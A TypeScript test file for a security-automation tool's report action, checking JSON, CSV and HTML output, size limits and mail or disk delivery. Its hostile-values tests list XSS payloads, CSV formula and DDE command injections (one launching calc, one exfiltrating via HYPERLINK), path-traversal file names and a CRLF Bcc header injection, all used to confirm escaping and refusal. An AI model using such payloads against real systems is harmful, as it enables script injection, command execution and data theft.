// Reports of runs, events and rows: their content as independent parsers read it, hostile values, limits, both ways of delivery.
import { createHash } from 'node:crypto';
import { checkDocument } from '@tocsin/schemas/codecs/validate.ts';
import type { Command, Report } from '@tocsin/schemas/types.ts';
import { parse as readCsv } from 'csv-parse/sync';
import fc from 'fast-check';
import { type DefaultTreeAdapterTypes, parse as readHtml } from 'parse5';
import { describe, expect, it } from 'vitest';
import { checkParams } from '../../domain/action/check-params.ts';
import type { Failed, Outcome } from '../../domain/action/outcome.ts';
import { MailFailure, type MailMessage } from '../../ports/mail.ts';
import { contextFor, contractNow, type Fakes, fakes } from '../../testing/action-fakes.ts';
import { eventCommand, rowsCommand, smtpConnection } from '../../testing/fixtures.ts';
import { contract } from '../contract.ts';
import { report } from './execute.ts';
import { runCommand } from './fixtures/run.ts';
import type { ReportParams } from './params.ts';
import { reportFiles } from './request.ts';

contract(report, {
  folder: new URL('./', import.meta.url),
  params: { title: 'Report of {{host}}', deliver: ['store', 'mail'], to: 'soc@example.com', format: 'json' },
  missing: { title: 'x {{nowhere.to_be_found}}' },
  connection: smtpConnection({ username: 'tocsin' }),
  secrets: ['password'],
});

async function run(
  params: ReportParams,
  command: Command = runCommand(),
  ports: Fakes = fakes(),
): Promise<{ outcome: Outcome; ports: Fakes }> {
  const given = { ...command, params: params as Record<string, unknown> };
  const outcome = await report.execute(given, contextFor(report, ports, { connection: smtpConnection() }));
  return { outcome, ports };
}

async function textOf(
  format: 'html' | 'csv' | 'json',
  command?: Command,
  params: ReportParams = {},
): Promise<string> {
  const { outcome, ports } = await run({ ...params, format }, command);
  expect(outcome.status).toBe('done');
  return [...ports.files.files.values()].map(String).join('');
}

type Node = DefaultTreeAdapterTypes.Node;
type Element = DefaultTreeAdapterTypes.Element;

function elementsOf(html: string): Element[] {
  const found: Element[] = [];
  const visit = (node: Node): void => {
    if ('tagName' in node) found.push(node);
    if ('childNodes' in node) for (const child of node.childNodes) visit(child);
  };
  visit(readHtml(html));
  return found;
}

function contentOf(node: Node): string {
  if ('value' in node) return node.value;
  if ('tagName' in node && node.tagName === 'br') return '\n';
  return 'childNodes' in node ? node.childNodes.map(contentOf).join('') : '';
}

/** The texts of the cells of each row of the table with this class. */
function tableOf(html: string, name: string): string[][] {
  const tables = elementsOf(html).filter(
    ({ tagName, attrs }) =>
      tagName === 'table' && attrs.some((attr) => attr.name === 'class' && attr.value === name),
  );
  const below = (element: Element, tags: readonly string[]): Element[] =>
    element.childNodes.flatMap((child) =>
      'tagName' in child ? (tags.includes(child.tagName) ? [child] : below(child, tags)) : [],
    );
  return tables.flatMap((table) =>
    below(table, ['tr']).map((row) => below(row, ['td', 'th']).map(contentOf)),
  );
}

describe('report of a run', () => {
  it('as JSON fits its schema and tells every step', async () => {
    const found = JSON.parse(await textOf('json')) as Report;
    expect(checkDocument('report.json', found)).toEqual([]);
    expect(found).toMatchObject({
      schema: 'tocsin-report/v1',
      title: 'Contain a host',
      run: {
        playbook: 'p',
        name: 'Contain a host',
        revision: 1,
        key: 'k',
        status: 'running',
        started_by: 'starter',
        started_at: '2026-04-28T12:00:00.000Z',
        vars: { owner: 'nobody' },
      },
      event: { event: 'finding.new', data: { title: 'X', severity: 'critical' } },
    });
    expect(found.steps?.map(({ path, status }) => `${path} ${status}`)).toEqual([
      'tell failed',
      'gate succeeded',
      'ticket succeeded',
      'never skipped',
      'both running',
      'both/branches/0/report running',
      'both/branches/1/later not reached',
      'last not reached',
    ]);
    const [tell, gate, ticket] = found.steps ?? [];
    expect(tell).toMatchObject({
      name: 'Tell the team',
      kind: 'action',
      type: 'webhook',
      started_at: '2026-04-28T12:00:00.000Z',
      ended_at: '2026-04-28T12:00:01.000Z',
      code: 'dns',
      detail: 'no such host',
      command_id: expect.stringMatching(/^[0-9a-f]{32}$/),
    });
    expect(gate?.votes).toEqual([
      { actor: 'alice', verdict: 'approve', at: '2026-04-28T12:01:01.000Z', comment: 'seen, go on' },
      { actor: 'bob', verdict: 'approve', at: '2026-04-28T12:02:01.000Z' },
    ]);
    // The delay of an hour is no part of the step.
    expect(ticket).toMatchObject({
      type: 'email',
      started_at: '2026-04-28T13:02:01.000Z',
      ended_at: '2026-04-28T13:02:02.000Z',
      outputs: { key: 'SEC-42' },
    });
  });

  it('as CSV has one row for every step', async () => {
    const rows = readCsv(await textOf('csv'), { columns: true, record_delimiter: '\r\n' }) as Record<
      string,
      string
    >[];
    expect(rows.map(({ step, status }) => `${step} ${status}`)).toHaveLength(8);
    expect(rows[1]).toMatchObject({
      playbook: 'p',
      revision: '1',
      run: 'k',
      step: 'gate',
      kind: 'approve',
      seconds: '120',
      decisions: 'approve alice 2026-04-28T12:01:01.000Z; approve bob 2026-04-28T12:02:01.000Z',
      comments: 'alice: seen, go on',
    });
    expect(rows[2]).toMatchObject({ outputs: '{"key":"SEC-42"}', started_at: '2026-04-28T13:02:01.000Z' });
  });

  it('as HTML shows the run, its steps, the finding, and fetches nothing', async () => {
    const html = await textOf('html', undefined, { title: 'Response to {{finding.title}}' });
    const [head, ...steps] = tableOf(html, 'steps');
    expect(head).toEqual(['Step', 'Status', 'Started', 'Ended', 'Outcome', 'Decisions']);
    expect(steps).toHaveLength(8);
    expect(steps[0]).toEqual([
      'tell\nTell the team\naction: webhook',
      'failed',
      '2026-04-28T12:00:00.000Z',
      '2026-04-28T12:00:01.000Z',
      expect.stringMatching(/^dns: no such host\ncommand [0-9a-f]{32}$/),
      '',
    ]);
    expect(steps[1]?.[5]).toBe(
      'alice: approve, 2026-04-28T12:01:01.000Z: seen, go on\nbob: approve, 2026-04-28T12:02:01.000Z',
    );
    const facts = new Map(tableOf(html, 'facts').map(([name, value]) => [name, value]));
    expect(facts.get('Playbook')).toBe('Contain a host (p)');
    expect(facts.get('severity')).toBe('critical');
    const elements = elementsOf(html);
    expect(elements.find(({ tagName }) => tagName === 'h1')?.childNodes.map(contentOf)).toEqual([
      'Response to X',
    ]);
    expect(
      elements.filter(({ tagName }) => ['script', 'link', 'img', 'iframe', 'a', 'form'].includes(tagName)),
    ).toEqual([]);
    expect(
      elements.flatMap(({ attrs }) => attrs).filter(({ name }) => /^on|^src$|^href$/.test(name)),
    ).toEqual([]);
    expect(html).not.toMatch(/https?:|url\(|@import/);
  });

  it('without the context of the run says what it knows, and that the steps are missing', async () => {
    const { subject, ...rest } = runCommand();
    const command = { ...rest, subject: { event: subject.event ?? {} } };
    const { outcome, ports } = await run({ format: ['json', 'csv', 'html'] }, command);
    expect(outcome).toMatchObject({
      status: 'done',
      warnings: ['the command does not carry the steps of its run'],
    });
    const [json] = ports.files.files.values();
    const found = JSON.parse(String(json)) as Report;
    expect(checkDocument('report.json', found)).toEqual([]);
    expect(found.run).toEqual({ key: 'k', number: expect.any(Number), playbook: 'p', revision: 1 });
    expect(found.steps).toBeUndefined();
  });

  it('fits its schema whatever the context holds', () => {
    const command = runCommand();
    const anything = fc.object({
      key: fc.constantFrom(
        'run',
        'steps',
        'outline',
        'open',
        'id',
        'gate',
        'status',
        'at',
        'votes',
        'actor',
        'verdict',
        'state',
        'step',
        'path',
        'name',
        'by',
        'x',
      ),
      maxDepth: 4,
    });
    fc.assert(
      fc.property(anything, (context) => {
        const built = reportFiles(
          { ...command, subject: { event: {}, context } },
          { title: 't', format: ['json', 'csv', 'html'] },
          contractNow,
        );
        const [json] = 'files' in built ? built.files : [];
        expect(checkDocument('report.json', JSON.parse(String(json?.content)))).toEqual([]);
      }),
    );
  });
});

describe('report without a run', () => {
  it('is about the event', async () => {
    const command = eventCommand({ type: 'report' });
    const found = JSON.parse(await textOf('json', command)) as Report;
    expect(checkDocument('report.json', found)).toEqual([]);
    expect(found).toMatchObject({
      title: 'Critical findings',
      event: { data: { cvss: 9.8 } },
      rule: { id: 'critical-findings' },
    });
    expect([found.run, found.steps, found.rows]).toEqual([undefined, undefined, undefined]);
    const [row] = readCsv(await textOf('csv', command), { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({ event: 'finding.new', finding_id: 'f-91827', cvss: '9.8' });
    expect(new Map(tableOf(await textOf('html', command), 'facts').map(([a, b]) => [a, b])).get('cvss')).toBe(
      '9.8',
    );
  });

  it('is about the rows, all of them', async () => {
    const rows = Array.from({ length: 700 }, (_, n) => ({ host: `h${n}`, n }));
    const command = rowsCommand(rows, { type: 'report' });
    expect((JSON.parse(await textOf('json', command)) as Report).rows).toHaveLength(700);
    expect(readCsv(await textOf('csv', command), { columns: true })).toHaveLength(700);
    const html = await textOf('html', command);
    expect(elementsOf(html).filter(({ tagName }) => tagName === 'tr').length).toBeGreaterThan(700);
    expect(html).toContain('700 rows');
    expect(html).toContain('h699');
  });
});

const hostile = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</style><script>alert(1)</script>',
  '</title><svg/onload=alert(1)>',
  '<!--',
  '<a href="javascript:alert(1)">x</a>',
  '{{constructor}}',
  '\u202etxt.exe',
];
const formulas = [
  '=HYPERLINK("http://e/"&A1)',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1',
  '"=1',
  '＝1',
  "=cmd|' /C calc'!A0",
];

describe('report: hostile values', () => {
  it.each(hostile)('%j is text on the page', async (text) => {
    const command = runCommand({
      event: { id: 'e', event: text, data: { title: text, [text]: text } },
      comment: text,
    });
    const html = await textOf('html', command, { title: '{{finding.title}}' });
    const elements = elementsOf(html);
    expect(new Set(elements.map(({ tagName }) => tagName))).toEqual(
      new Set([
        'html',
        'head',
        'meta',
        'title',
        'style',
        'body',
        'h1',
        'h2',
        'p',
        'section',
        'table',
        'thead',
        'tbody',
        'tr',
        'th',
        'td',
        'b',
        'br',
        'span',
        'pre',
      ]),
    );
    expect(
      elements.flatMap(({ attrs }) => attrs.map(({ name }) => name)).filter((name) => name.startsWith('on')),
    ).toEqual([]);
    const shown = new Map(tableOf(html, 'facts').map(([a, b]) => [a, b]));
    expect(shown.get('title')).toBe(text);
    expect(shown.get(text)).toBe(text);
    expect(tableOf(html, 'steps')[2]?.[5]).toContain(text);
  });

  it.each(formulas)('%j starts no formula', async (text) => {
    const texts = [
      await textOf('csv', runCommand({ comment: text })),
      await textOf('csv', rowsCommand([{ [text]: text, n: -5 }], { type: 'report' })),
      await textOf('csv', eventCommand({ type: 'report', event: { event: text, data: { a: text } } })),
    ];
    for (const content of texts)
      for (const cell of (readCsv(content, { record_delimiter: '\r\n' }) as string[][]).flat())
        if (cell !== '-5') expect(cell).not.toMatch(/^[\s"]*[=+\-@\uff1d]|^[\t\r\n]/);
    expect(texts[1]).toContain('-5');
  });

  it('names its file by the command, whatever the template makes of values', async () => {
    for (const text of [
      '../../etc/passwd',
      '/etc/passwd',
      'a\u0000b',
      '..',
      '.',
      '.hidden',
      'a/../b',
      'C:\\x',
      'x'.repeat(5000),
      '\u202eexe.x',
      '',
    ]) {
      const command = eventCommand({ type: 'report', event: { event: 'x', data: { t: text } } });
      const { ports } = await run({ file_name: '{{data.t}}' }, command);
      const [name = ''] = ports.files.files.keys();
      expect(name).toMatch(/^[A-Za-z0-9][A-Za-z0-9._-]{0,79}-0123456789abcdef0123456789abcdef\.html$/);
    }
  });
});

describe('report: limits', () => {
  it.each(['html', 'csv', 'json'] as const)(
    'refuses %s above 10 MiB instead of cutting it',
    async (format) => {
      const rows = Array.from({ length: 1100 }, (_, n) => ({ n, text: 'x'.repeat(10_000) }));
      const { outcome, ports } = await run({ format }, rowsCommand(rows, { type: 'report' }));
      expect(outcome).toMatchObject({ status: 'failed', code: 'too_large', retry: 'never' });
      expect((outcome as Failed).detail).toContain(format);
      expect(ports.files.files.size).toBe(0);
    },
  );

  it('refuses a message that no server would take', async () => {
    const rows = Array.from({ length: 800 }, (_, n) => ({ n, text: 'x'.repeat(9000) }));
    const { outcome, ports } = await run(
      { deliver: 'mail', to: 'a@example.com', format: ['html', 'csv', 'json'], inline: true },
      rowsCommand(rows, { type: 'report' }),
    );
    expect(outcome).toMatchObject({ status: 'failed', code: 'too_large', retry: 'never' });
    expect(ports.mail.sent).toEqual([]);
  });
});

describe('report: delivery', () => {
  it('stores by default, without a connection, and says what it stored', async () => {
    const ports = fakes();
    const command = { ...runCommand(), params: { format: ['html', 'csv'] } };
    const outcome = await report.execute(command, contextFor(report, ports));
    expect(report.needsConnection?.(command.params)).toBe(false);
    const names = [`report-${command.command_id}.html`, `report-${command.command_id}.csv`];
    expect([...ports.files.files.keys()]).toEqual(names);
    const sha256 = names.map((name) =>
      createHash('sha256')
        .update(ports.files.files.get(name) ?? '')
        .digest('hex'),
    );
    expect(outcome).toMatchObject({
      status: 'done',
      ref: names[0],
      output: {
        sha256: sha256[0],
        files: names.map((name, n) => ({
          name,
          sha256: sha256[n],
          bytes: ports.files.files.get(name)?.length,
        })),
      },
    });
    expect(ports.mail.sent).toEqual([]);
  });

  it('mails the files, and the page as the message', async () => {
    const { outcome, ports } = await run({
      deliver: 'mail',
      to: ['a@example.com', '{{finding.none}}'],
      subject: 'Report\r\nBcc: e@x.example {{finding.title}}',
      format: ['html', 'json'],
      inline: true,
    });
    const message = ports.mail.sent[0]?.message as MailMessage;
    expect(message.envelope).toEqual({ from: 'tocsin@example.com', to: ['a@example.com'] });
    expect(message.subject).toBe('Report Bcc: e@x.example X');
    expect(
      message.attachments.map(({ filename, contentType }) => `${filename.slice(-5)} ${contentType}`),
    ).toEqual(['.html text/html; charset=utf-8', '.json application/json']);
    expect(message.html).toBe(String(message.attachments[0]?.content));
    expect(message.text).toContain('Contain a host');
    expect(ports.files.files.size).toBe(0);
    expect(outcome).toMatchObject({
      status: 'done',
      output: { message_id: message.messageId, accepted: ['a@example.com'] },
      warnings: ['to: {{finding.none}} has no value and was left empty'],
    });
  });

  it('tries again what the disk or the server refuses for now', async () => {
    const full = fakes();
    full.files.fail(Object.assign(new Error('x /secret/path'), { code: 'EDQUOT' }));
    expect((await run({}, runCommand(), full)).outcome).toEqual({
      status: 'failed',
      code: 'disk',
      retry: 'backoff',
      detail: 'the report folder is full',
    });
    const broken = fakes();
    broken.files.fail(Object.assign(new Error('x /secret/path'), { code: 'EIO' }));
    expect((await run({}, runCommand(), broken)).outcome).toMatchObject({
      code: 'disk',
      detail: 'the report could not be written: EIO',
    });
    const deaf = fakes();
    deaf.mail.fail(new MailFailure('transient', 'later', { code: 421 }));
    const { outcome } = await run({ deliver: ['store', 'mail'], to: 'a@example.com' }, runCommand(), deaf);
    expect(outcome).toMatchObject({ status: 'failed', code: 'smtp_transient', retry: 'backoff' });
  });

  it.each([
    [{ deliver: 'mail' }, '/to'],
    [{ to: 'a@example.com' }, '/to'],
    [{ subject: 'x' }, '/subject'],
    [{ deliver: 'mail', to: 'nobody' }, '/to'],
    [{ deliver: 'mail', to: 'a@example.com', format: 'csv', inline: true }, '/inline'],
    [{ deliver: 'mail', to: 'a@example.com', attach: false }, '/attach'],
    [{ title: '{{#x}}' }, '/title'],
    [{ file_name: '{{' }, '/file_name'],
    [{ format: 'pdf' }, '/format'],
    [{ format: [] }, '/format'],
  ])('refuses %j at %s', (params, path) => {
    expect(checkParams(report, params).map((issue) => issue.path)).toContain(path);
  });

  it('refuses recipients outside the allowed domains, and a connection that is none', async () => {
    const params = { deliver: 'mail' as const, to: 'a@evil.example' };
    const command = { ...runCommand(), params };
    const strict = contextFor(report, fakes(), {
      connection: smtpConnection({ allowed_domains: ['example.com'] }),
    });
    expect(await report.execute(command, strict)).toMatchObject({ code: 'invalid_recipient' });
    expect(await report.execute(command, contextFor(report, fakes()))).toMatchObject({
      code: 'unknown_connection',
    });
  });

  it('previews sizes and beginnings, and opens nothing', () => {
    const params = { deliver: ['store', 'mail'], to: 'a@example.com', format: ['html', 'json'] };
    const context = { connection: smtpConnection(), now: contractNow };
    const outcome = report.preview?.({ ...runCommand(), params }, context);
    expect(outcome).toMatchObject({
      status: 'done',
      output: {
        title: 'Contain a host',
        files: [
          { format: 'html', bytes: expect.any(Number), beginning: expect.stringMatching(/^<!DOCTYPE html>/) },
          { format: 'json', beginning: expect.stringMatching(/^\{"schema":"tocsin-report\/v1"/) },
        ],
        mail: { to: ['a@example.com'], subject: 'Contain a host' },
      },
    });
    expect(report.preview?.({ ...runCommand(), params }, { ...context, connection: null })).toMatchObject({
      code: 'unknown_connection',
    });
  });
});
